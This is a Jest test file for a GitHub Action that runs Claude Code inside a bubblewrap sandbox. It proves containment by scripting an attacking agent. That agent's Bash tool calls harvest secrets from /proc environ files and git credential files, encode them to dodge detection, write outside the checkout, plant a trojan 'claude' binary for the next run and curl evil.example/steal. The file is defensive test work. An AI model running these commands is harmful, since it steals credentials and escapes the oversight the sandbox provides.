/**
 * The sandbox, proved the way an attacker would try it: the scripted implement
 * phase really runs these commands through Claude Code's Bash tool, inside the
 * bundled action on Node 24, and the test then looks at everything that left
 * the run (origin, GitHub, logs, the model's requests) for the job's secrets
 * in every encoding.
 */
import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import net from 'node:net'
import os from 'node:os'
import path from 'node:path'
import { describe, expect, it } from '@jest/globals'
import { PINNED_CLAUDE_CODE_VERSION } from '../src/action/claude-install.js'
import { secretForms } from '../src/util/secret-forms.js'
import { documentPhase, reviewReplies, SAMPLE_FINDINGS, standardRules, write } from './support/phase-scripts.js'
import { gitIn, REPO_ROOT, SAMPLE_FILES } from './support/sandbox.js'
import { ANTHROPIC_KEY, createWorld, expectOk, GITHUB_TOKEN, OPENAI_KEY, type World } from './support/action-harness.js'
import { checkAndClose } from './support/world-hooks.js'

let w: World
let open = false

checkAndClose(() => {
  if (!open) return undefined
  open = false
  return w
})

const bash = (command: string) => ({ name: 'Bash', input: { command, description: 'step' } })
const BRANCH = () => `orchestrator/issue-${w.issue.number}`

/** Every blob, path and message on every ref of origin, as one text. */
function everythingOnOrigin(origin: string): string {
  const objects = gitIn(origin, ['cat-file', '--batch-all-objects', '--batch-check=%(objectname) %(objecttype)'])
    .split('\n')
    .filter(Boolean)
    .map(line => line.split(' '))
  return objects
    .map(([sha, type]) =>
      type === 'tree'
        ? gitIn(origin, ['ls-tree', '-r', '--name-only', sha as string])
        : gitIn(origin, ['cat-file', '-p', sha as string])
    )
    .join('\n')
}

const SECRETS = { GITHUB_TOKEN, ANTHROPIC_KEY, OPENAI_KEY }

/** `name in where (form)` for every secret form found in any of the texts. */
function leaks(texts: Array<[string, string]>): string[] {
  return texts.flatMap(([where, text]) =>
    Object.entries(SECRETS).flatMap(([name, secret]) =>
      secretForms(secret)
        .filter(form => text.includes(form))
        .map(form => `${name} in ${where} (${form === secret ? 'plain' : 'encoded'})`)
    )
  )
}

/**
 * What the attack does with what it stole: plain, reversed, base64 and
 * base64url, in files and in file names. A secret inside a longer stream can
 * start at any byte, and base64 spells it three ways, one for each offset
 * modulo 3: `x` and `xy` in front shift it by one and two. The test below runs
 * these very commands on secrets it hands them, so the leak check is known to
 * see each spelling the attack writes.
 */
const ENCODE = [
  'grep -E "KEY|TOKEN|AUTHORIZATION" stolen.txt > src/plain.txt',
  'rev stolen.txt > src/reversed.txt',
  'base64 -w0 stolen.txt > src/encoded.txt',
  '{ printf x; cat stolen.txt; } | base64 -w0 > src/encoded-1.txt',
  '{ printf xy; cat stolen.txt; } | base64 -w0 > src/encoded-2.txt',
  'for v in ANTHROPIC_API_KEY GITHUB_TOKEN OPENAI_API_KEY; do printf "x%s" "$(printenv $v)" | base64 -w0; echo; printf "xy%s" "$(printenv $v)" | base64 -w0; echo; done > src/shifted.txt',
  'touch "leak-$(printenv ANTHROPIC_API_KEY).txt"',
  'touch "leak-$(printf "x%s" "$ANTHROPIC_API_KEY" | base64 -w0 | tr "+/" "-_").txt"'
].join('; ')

describe('the sandbox', () => {
  it('keeps every secret out of reach of an implement phase that tries everything, and tells the maintainer what it blocked', async () => {
    w = await createWorld()
    open = true
    // A loopback service that is not the model: nothing in the sandbox may reach it.
    const touched: string[] = []
    const listener = net.createServer(sock => {
      touched.push('connection')
      sock.destroy()
    })
    await new Promise<void>(r => listener.listen(0, '127.0.0.1', r))
    const port = (listener.address() as net.AddressInfo).port
    const runDir = path.join(w.sb.root, 'run-1')
    const marker = path.join(w.sb.root, 'planted-claude-ran')
    const outside = [
      path.join(w.sb.home, 'pwned.txt'),
      path.join(runDir, 'pwned.txt'),
      path.join('/tmp', `pwned-${path.basename(w.sb.root)}.txt`)
    ]
    const plantedClaude = `#!/bin/sh\necho ran > ${marker}\nenv >> ${marker}\nexec ${path.join(REPO_ROOT, 'node_modules', '.bin', 'claude')} "$@"\n`

    w.sb.model.setRules(
      standardRules(w.workspace, {
        implement: [
          {
            text: 'Looking around.',
            tools: [
              // Every process's environment, our own, and the checkout's credentials file.
              bash(
                'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done > stolen.txt 2>/dev/null; env >> stolen.txt; cat "$RUNNER_TEMP"/git-credentials-*.config >> stolen.txt 2>&1; ls /proc | grep -c "^[0-9]" > pids.txt'
              ),
              // What it found, plain, reversed and base64 at every alignment, in files and in file names.
              bash(ENCODE),
              // Writes outside the checkout.
              bash(outside.map(f => `echo pwned > ${f}`).join('; ') + '; echo done'),
              // A claude the next run would pick up from the checkout.
              write(w.workspace, 'node_modules/.bin/claude', plantedClaude),
              bash('chmod +x node_modules/.bin/claude'),
              // Other hosts: a loopback service, the model server itself, the internet.
              bash(
                `curl -s -m 3 http://127.0.0.1:${port}/ ; echo "a=$?"; curl -s -m 3 ${w.sb.model.url}/v1/messages ; echo "b=$?"; curl -s -m 5 https://evil.example/steal ; echo "c=$?"`
              )
            ]
          },
          { text: 'Done.' }
        ]
      })
    )
    const run = await w.run(
      w.labeledEvent('orchestrator'),
      { require_approval: 'false' },
      { GITHUB_TOKEN, OPENAI_API_KEY: OPENAI_KEY },
      {
        beforeSpawn: () =>
          fs.writeFileSync(
            path.join(runDir, 'git-credentials-1234.config'),
            `[http]\n\textraheader = AUTHORIZATION: basic ${GITHUB_TOKEN}\n`
          )
      }
    )
    listener.close()
    expectOk(run)
    expect(run.outputs.status).toBe('pr-opened')

    // The commands really ran inside: a PID namespace of its own, its own environment with a stand-in key.
    const stolen = gitIn(w.origin, ['show', `${BRANCH()}:stolen.txt`])
    expect(stolen).toMatch(/^ANTHROPIC_API_KEY=sk-ant-orchestrator-/m)
    expect(stolen).toMatch(/^ANTHROPIC_BASE_URL=http:\/\/127\.0\.0\.2:\d+$/m)
    expect(stolen).not.toMatch(/INPUT_|OPENAI|GITHUB_TOKEN/)
    expect(stolen).toMatch(/git-credentials-\*\.config'?: No such file or directory/)
    // Its encodings were written and pushed: the shifted copies are what it stole, one and two bytes on.
    const pushed = (file: string) => gitIn(w.origin, ['show', `${BRANCH()}:${file}`])
    for (const [file, before] of [
      ['src/encoded-1.txt', 'x'],
      ['src/encoded-2.txt', 'xy']
    ] as const)
      expect(Buffer.from(pushed(file), 'base64').toString('utf8').trim()).toBe(`${before}${stolen}`)
    expect(
      pushed('src/shifted.txt')
        .split('\n')
        .map(line => Buffer.from(line, 'base64').toString('utf8'))
    ).toEqual([
      expect.stringMatching(/^xsk-ant-orchestrator-/),
      expect.stringMatching(/^xysk-ant-orchestrator-/),
      ...['x', 'xy', 'x', 'xy']
    ])
    const hostPids = fs.readdirSync('/proc').filter(n => /^\d+$/.test(n)).length
    expect(Number(gitIn(w.origin, ['show', `${BRANCH()}:pids.txt`]))).toBeLessThan(Math.min(30, hostPids))
    // Nothing outside the checkout changed.
    for (const f of outside) expect(fs.existsSync(f)).toBe(false)
    // No connection left the sandbox except to the model, through the credential proxy.
    expect(touched).toEqual([])
    const probes = w.sb.model.requests.filter(r => r.rule === 'implement')[1]?.lastUserText ?? ''
    expect(probes).toContain('a=7')
    expect(probes).toContain('b=7')
    expect(probes).not.toContain('c=0')

    // No secret, in any form, anywhere it could have gone.
    const pulls = [...w.gh.state.pulls.values()]
    expect(
      leaks([
        ['origin', everythingOnOrigin(w.origin)],
        ...[...w.gh.state.comments.values()].map((c): [string, string] => [`comment ${c.id}`, c.body]),
        ...pulls.map((p): [string, string] => [`PR #${p.number}`, `${p.title}\n${p.body ?? ''}`]),
        ['result file', fs.readFileSync(run.outputs.result_file as string, 'utf8')],
        ['job summary', run.summary],
        [
          'log',
          `${run.stdout}\n${run.stderr}`
            .split('\n')
            .filter(l => !l.startsWith('::add-mask::'))
            .join('\n')
        ],
        ['model requests', JSON.stringify(w.sb.model.requests.map(r => r.raw))]
      ])
    ).toEqual([])

    // The maintainer is told what the sandbox refused, on the PR and in the status comment.
    const body = pulls[0]?.body ?? ''
    expect(body).toMatch(/🛡️ \*\*implement\*\*: Sandbox blocked \d+ connections?: evil\.example:443/)
    // (The writes into the hidden HOME and runner temp land in throwaway empty folders; /tmp is read-only.)
    expect(body).toMatch(new RegExp(`refused \\d+ writes?: [^\\n]*${outside[2]?.replace(/[.]/g, '\\.')}`))
    const status =
      [...w.gh.state.comments.values()].find(c => c.body.includes('<!-- orchestrator:status -->'))?.body ?? ''
    expect(status).toContain('Sandbox blocked')

    // The next run does not execute the claude the last one planted, even with the checkout's bin folder first on PATH.
    w.sb.model.setRules(standardRules(w.workspace))
    const toolCache = path.join(
      w.sb.root,
      'toolcache',
      'orchestrator-claude-code',
      PINNED_CLAUDE_CODE_VERSION,
      'node_modules',
      '.bin'
    )
    fs.mkdirSync(toolCache, { recursive: true })
    fs.symlinkSync(path.join(REPO_ROOT, 'node_modules', '.bin', 'claude'), path.join(toolCache, 'claude'))
    const again = await w.run(
      w.commentEvent('/approve'),
      { claude_path: '' },
      { PATH: `${path.join(w.workspace, 'node_modules', '.bin')}:/usr/bin:/bin` }
    )
    expectOk(again)
    expect(again.outputs.status).toBe('pr-updated')
    expect(again.stdout).toContain(`Claude Code ${PINNED_CLAUDE_CODE_VERSION} (${path.join(toolCache, 'claude')})`)
    expect(fs.existsSync(marker)).toBe(false)
  })

  it('would see each secret in everything the attack writes, at every byte alignment, had the sandbox let one through', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'encode-'))
    try {
      fs.mkdirSync(path.join(dir, 'src'))
      // Wherever a secret starts here, encoded.txt and its two shifted copies put it at all three offsets modulo 3.
      fs.writeFileSync(
        path.join(dir, 'stolen.txt'),
        `ANTHROPIC_API_KEY=${ANTHROPIC_KEY}\nGITHUB_TOKEN=${GITHUB_TOKEN}\nOPENAI_API_KEY=${OPENAI_KEY}\n`
      )
      execFileSync('bash', ['-c', ENCODE], {
        cwd: dir,
        env: { PATH: process.env.PATH, ANTHROPIC_API_KEY: ANTHROPIC_KEY, GITHUB_TOKEN, OPENAI_API_KEY: OPENAI_KEY }
      })
      const seen = (text: string): string[] =>
        Object.keys(SECRETS).filter(name => leaks([['', text]]).some(l => l.startsWith(`${name} in `)))
      const files = fs.readdirSync(path.join(dir, 'src'))
      const read = (f: string) => fs.readFileSync(path.join(dir, 'src', f), 'utf8')
      const every = Object.keys(SECRETS)
      expect(Object.fromEntries(files.map(f => [f, seen(read(f))]))).toEqual({
        'plain.txt': every,
        'reversed.txt': every,
        'encoded.txt': every,
        'encoded-1.txt': every,
        'encoded-2.txt': every,
        'shifted.txt': every
      })
      // One line a secret and offset: each offset on its own.
      expect(read('shifted.txt').split('\n').filter(Boolean).map(seen)).toEqual(
        ['ANTHROPIC_KEY', 'ANTHROPIC_KEY', 'GITHUB_TOKEN', 'GITHUB_TOKEN', 'OPENAI_KEY', 'OPENAI_KEY'].map(n => [n])
      )
      expect(
        fs
          .readdirSync(dir)
          .filter(f => f.startsWith('leak-'))
          .map(seen)
      ).toEqual([['ANTHROPIC_KEY'], ['ANTHROPIC_KEY']])
    } finally {
      fs.rmSync(dir, { recursive: true, force: true })
    }
  })

  it('still opens the pull request for an ordinary run: the project’s tests and a local npm install work inside', async () => {
    const files = {
      ...SAMPLE_FILES,
      '.gitignore': 'node_modules/\n',
      'vendor/pad/package.json': JSON.stringify({ name: 'pad', version: '1.0.0', main: 'index.js' }) + '\n',
      'vendor/pad/index.js': "module.exports = (s, n) => String(s).padStart(n, '0')\n"
    }
    w = await createWorld({ files })
    open = true
    w.sb.model.setRules(
      standardRules(w.workspace, {
        implement: [
          {
            text: 'Implementing.',
            tools: [
              bash(
                'npm install --offline --no-audit --no-fund ./vendor/pad && node -e "console.log(require(\'pad\')(7, 3))"'
              ),
              write(w.workspace, 'src/rate-limit.js', 'export const LIMIT = 100\n'),
              bash('npm test && echo TESTS-PASSED')
            ]
          },
          { text: 'Implemented; tests pass.' }
        ],
        review: reviewReplies(w.workspace, SAMPLE_FINDINGS),
        plan: documentPhase(w.workspace, () => '# Plan\n\n1. Add src/rate-limit.js.\n')
      })
    )
    const run = await w.run(w.labeledEvent('orchestrator'), { require_approval: 'false' })
    expectOk(run)
    expect(run.outputs.status).toBe('pr-opened')
    const results = w.sb.model.requests.filter(r => r.rule === 'implement')[1]?.lastUserText ?? ''
    expect(results).toContain('007')
    expect(results).toContain('TESTS-PASSED')
    expect(JSON.parse(gitIn(w.origin, ['show', `${BRANCH()}:package.json`])).dependencies).toEqual({
      pad: 'file:vendor/pad'
    })
    const body = [...w.gh.state.pulls.values()][0]?.body ?? ''
    expect(body).not.toContain('Sandbox blocked')
    expect(body).not.toContain('without the sandbox')
  })

  it('fails before any model request when the sandbox cannot start, saying how to fix it; sandbox: off runs with a warning', async () => {
    w = await createWorld()
    open = true
    // A runner whose kernel refuses bubblewrap its user namespace (Ubuntu 24.04's AppArmor default).
    const fakeBin = path.join(w.sb.root, 'fake-bin')
    fs.mkdirSync(fakeBin)
    fs.writeFileSync(
      path.join(fakeBin, 'bwrap'),
      '#!/bin/sh\nif [ "$1" = --version ]; then echo "bubblewrap 0.8.0"; exit 0; fi\necho "bwrap: setting up uid map: Permission denied" >&2\nexit 1\n',
      { mode: 0o755 }
    )
    const env = { PATH: `${fakeBin}:${process.env.PATH ?? '/usr/bin:/bin'}` }
    const run = await w.run(w.labeledEvent('orchestrator'), {}, env)
    expect(run.exitCode).toBe(1)
    expect(run.outputs.status).toBe('failed')
    expect(w.sb.model.requests).toHaveLength(0)
    const comments = [...w.gh.state.comments.values()].map(c => c.body)
    const failure = comments.at(-1) ?? ''
    expect(failure).toContain('the sandbox cannot start on this machine (bwrap: setting up uid map: Permission denied)')
    expect(failure).toContain('sudo sysctl -w kernel.apparmor_restrict_unprivileged_userns=0')
    expect(failure).toContain('sandbox: off')
    const status = comments.find(c => c.includes('<!-- orchestrator:status -->')) ?? ''
    expect(status).toContain('❌')
    expect(status).not.toContain('(running)')
    expect(w.gh.state.issues.get(w.issue.number)?.labels).toContain('orchestrator:failed')
    expect(w.originHead(BRANCH())).toBeNull()

    // The maintainer chooses to run unconfined: it works, and every place says so.
    w.sb.model.setRules(standardRules(w.workspace))
    const unconfined = await w.run(w.commentEvent('/plan'), { sandbox: 'off', require_approval: 'false' }, env)
    expectOk(unconfined)
    expect(unconfined.outputs.status).toBe('pr-opened')
    expect(unconfined.stdout).toContain('::warning::the sandbox is off (sandbox: off)')
    const pr = [...w.gh.state.pulls.values()][0]?.body ?? ''
    expect(pr).toContain('Claude Code ran **without the sandbox**: the sandbox is off (sandbox: off)')
    const latestStatus =
      [...w.gh.state.comments.values()].filter(c => c.body.includes('<!-- orchestrator:status -->')).at(-1)?.body ?? ''
    expect(latestStatus).toContain('Claude Code runs **without the sandbox**')
  })
})
